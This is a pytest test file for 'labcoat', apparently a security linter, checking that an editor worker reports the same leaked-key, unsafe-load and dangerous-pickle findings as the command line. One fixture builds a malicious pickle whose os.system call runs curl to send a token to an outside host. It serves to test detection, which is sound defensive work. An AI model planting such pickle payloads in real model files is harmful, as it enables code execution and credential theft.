"""What the worker finds is what `labcoat check` finds, under the settings that hold for the file and no others."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from tests.cases import notebook
from tests.jupyter.worker.asking import CORPUS, KEY, SETTINGS, Worker
from tests.model_files.opcodes import call, global_, pickle, text

LEAK = f'x = "{KEY}"\n'
JSONL = "path rule severity message help cell cell_id part line column end_line end_column raw_line excerpt".split()
JSONL += ["fingerprint", "fixable", "url"]


@pytest.fixture
def worker(tmp_path):
    (tmp_path / "root" / "work").mkdir(parents=True)
    with Worker(tmp_path / "root") as worker:
        yield worker


def checked(root, *arguments):
    """What `labcoat check` reports, by path."""
    command = [sys.executable, "-m", "labcoat", "check", "--format", "jsonl", *arguments]
    done = subprocess.run(command, cwd=root, capture_output=True)
    assert done.returncode in (0, 1), done.stderr.decode()
    found = {}
    for line in done.stdout.decode().splitlines():
        finding = json.loads(line)
        found.setdefault(finding["path"], []).append(finding)
    return found


def core_part(report):
    return [{name: finding[name] for name in JSONL} for finding in report["findings"]]


def test_all_of_the_corpus_is_reported_as_on_the_command_line():
    expected = checked(CORPUS, ".")
    with Worker(CORPUS) as worker:
        paths = [path.relative_to(CORPUS).as_posix() for path in sorted(CORPUS.rglob("*")) if path.is_file()]
        different = [path for path in paths if core_part(worker.scan(path)) != expected.get(path, [])]
    assert len(expected) > 100
    assert different == []


def test_content_that_is_not_saved_is_reported_as_if_it_were(worker, tmp_path):
    content = notebook(LEAK, "import torch\ntorch.load(x)\n", f"[markdown] {KEY}")
    unsaved = worker.scan("work/a.ipynb", content)
    (tmp_path / "root" / "work" / "a.ipynb").write_text(content)
    assert worker.scan("work/a.ipynb") == unsaved
    assert core_part(unsaved) == checked(tmp_path / "root", "work/a.ipynb")["work/a.ipynb"]
    assert [finding["family"] for finding in unsaved["findings"]] == ["find-keys", "unsafe-load", "find-keys"]
    assert [finding["is_key"] for finding in unsaved["findings"]] == [True, False, True]


def test_a_file_elsewhere_in_a_repository_has_the_fingerprints_of_the_command_line(worker, tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / "root" / "work" / "a.py").write_text(LEAK)
    assert core_part(worker.scan("work/a.py")) == checked(tmp_path / "root", "work/a.py")["work/a.py"]


@pytest.mark.parametrize("name", ["model.pkl", "model.pt"])
def test_a_model_is_looked_into_and_offers_no_change(worker, tmp_path, name):
    data = pickle(call(global_("os", "system"), text(f"curl -u me:{KEY} https://x.eu")))
    (tmp_path / "root" / name).write_bytes(data)
    for content in (None, data):
        report, _ = worker.ask("scan", name, content)
        assert {finding["rule"] for finding in report["findings"]} == {"dangerous-pickle-import", "secret-in-model"}
        assert KEY not in json.dumps(report)
        assert all(finding["fix"] is finding["ignore"] is None for finding in report["findings"])


def test_the_nearest_settings_hold_and_are_read_again(worker, tmp_path):
    settings = tmp_path / "root" / "work" / "pyproject.toml"
    assert worker.rules("work/a.py", LEAK) == ["huggingface-token"]
    settings.write_text('[tool.labcoat]\nignore = ["find-keys"]\n')
    assert worker.rules("work/a.py", LEAK) == []
    assert worker.rules("a.py", LEAK) == ["huggingface-token"]
    settings.write_text('[tool.labcoat]\nexclude = ["a.py"]\n')
    assert worker.scan("work/a.py", LEAK)["status"] == "excluded"
    settings.write_text('[tool.labcoat]\nselect = ["nothing-like-it"]\n')
    report = worker.scan("work/a.py", LEAK)
    assert report["status"] == "config-error"
    assert "work/pyproject.toml" in report["message"]
    assert str(tmp_path) not in report["message"]
    settings.unlink()
    assert worker.rules("work/a.py", LEAK) == ["huggingface-token"]


@pytest.mark.parametrize("is_repository", [True, False])
def test_nothing_above_the_root_is_read(worker, tmp_path, is_repository):
    if is_repository:
        (tmp_path / ".git").mkdir()
    (tmp_path / "pyproject.toml").write_text('[tool.labcoat]\nignore = ["find-keys"]\n')
    (tmp_path / ".labcoat-baseline.json").write_text("broken")
    (tmp_path / ".secrets.baseline").write_text("broken")
    (tmp_path / "root" / "work" / "a.py").write_text(LEAK)
    assert worker.rules("work/a.py") == ["huggingface-token"]
    assert worker.rules("work/a.py", LEAK) == ["huggingface-token"]


def test_requirements_above_the_root_are_neither_read_nor_told_from_missing_ones(worker, tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / "pins.txt").write_text("torch==2.6.0\n")
    (tmp_path / "uv.lock").write_text('version = 1\n[[package]]\nname = "numpy"\nversion = "2.0.0"\n')
    report = worker.scan("requirements.txt", "-c ../pins.txt\ntorch\nnumpy\n")
    messages = {finding["rule"]: finding["message"] for finding in report["findings"]}
    assert set(messages) == {"unreadable-file", "unpinned-requirement"}
    assert "outside of the repository" in messages["unreadable-file"]
    assert [finding["fix"] for finding in report["findings"]] == [None] * 3


def test_files_that_a_document_names_are_reported_when_they_are_open(worker, tmp_path):
    (tmp_path / "root" / "other.txt").write_text("torch\n")
    assert worker.rules("requirements.txt", "-r other.txt\n") == []
    (tmp_path / "root" / "pins.txt").write_text("torch==2.6.0\n")
    assert worker.rules("requirements.txt", "-c pins.txt\ntorch\n") == []
    (tmp_path / "root" / "pins.txt").write_text("numpy==2.6.0\n")
    assert worker.rules("requirements.txt", "-c pins.txt\ntorch\n") == ["unpinned-requirement"]


@pytest.mark.parametrize("project", ["", "work"])
def test_accepted_findings_are_not_reported(worker, tmp_path, project):
    folder = tmp_path / "root" / project
    (folder / ".git").mkdir()
    (tmp_path / "root" / "work" / "a.py").write_text(LEAK)
    (tmp_path / "root" / "b.py").write_text(LEAK)
    subprocess.run([sys.executable, "-m", "labcoat", "baseline", "."], cwd=folder, check=True, capture_output=True)
    assert worker.rules("work/a.py") == []
    assert worker.rules("b.py") == (["huggingface-token"] if project else [])
    assert worker.rules("work/a.py", LEAK + f'y = "{KEY}"\n') == ["huggingface-token"]
    (folder / ".labcoat-baseline.json").write_text("[")
    assert worker.scan("work/a.py")["status"] == "config-error"


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        ({"select": ["unsafe-load"]}, ["torch-load"]),
        ({"ignore": ["unsafe-load"]}, ["huggingface-token"]),
        ({"min_severity": "critical"}, ["huggingface-token"]),
        ({}, ["torch-load", "huggingface-token"]),
    ],
)
def test_the_server_has_settings_of_its_own(worker, settings, expected):
    content = f"import torch\ntorch.load(x)\n{LEAK}"
    assert worker.rules("a.py", content, settings={**SETTINGS, **settings}) == expected


def test_a_file_that_is_too_large_is_not_looked_at(worker, tmp_path):
    report = worker.scan("a.py", LEAK, settings={**SETTINGS, "max_bytes": 10})
    assert (report["status"], report["total"]) == ("too-large", 0)
    (tmp_path / "root" / "a.py").write_text(LEAK)
    assert worker.scan("a.py", settings={**SETTINGS, "max_bytes": 10})["status"] == "too-large"
    (tmp_path / "root" / "pyproject.toml").write_text("[tool.labcoat]\nmax-bytes = 20\n")
    report = worker.scan("a.py")
    assert (report["status"], report["findings"][0]["rule"]) == ("too-large", "unreadable-file")


@pytest.mark.parametrize("name", ["gone.ipynb", "work"])
def test_what_cannot_be_read_says_so(worker, name):
    report = worker.scan(name)
    assert (report["status"], report["total"], report["message"] != "") == ("unreadable", 0, True)


@pytest.mark.skipif(os.name == "nt", reason="there are no FIFOs")
def test_a_pipe_is_not_waited_for(worker, tmp_path):
    os.mkfifo(tmp_path / "root" / "a.py")
    assert worker.scan("a.py")["status"] == "unreadable"


@pytest.mark.parametrize("path", ["s3:bucket/a.ipynb", "../../a.ipynb", "/a.ipynb", "a.ipynb"])
def test_content_without_a_file_is_checked_without_settings(worker, tmp_path, path):
    (tmp_path / "root" / "pyproject.toml").write_text('[tool.labcoat]\nignore = ["find-keys"]\n')
    content = notebook(LEAK)
    first = worker.scan(path, content, file="", root="")
    assert [(finding["rule"], finding["path"]) for finding in first["findings"]] == [("huggingface-token", path)]
    assert worker.rules("a.ipynb", content) == []
    assert worker.scan(path, content, file="", root="") == first


def test_a_notebook_that_is_kept_as_code_is_checked_as_a_notebook(worker, tmp_path):
    report = worker.scan("a.py", notebook("x = 1", LEAK), kind="notebook")
    assert [(finding["cell"], finding["rule"]) for finding in report["findings"]] == [(2, "huggingface-token")]
    (tmp_path / "root" / "a.py").write_text(LEAK)
    assert [finding["cell"] for finding in worker.scan("a.py", kind="notebook")["findings"]] == [None]


def test_a_broken_notebook_is_a_finding(worker):
    assert worker.rules("a.ipynb", "<<<<<<< HEAD\n") == ["unreadable-file"]
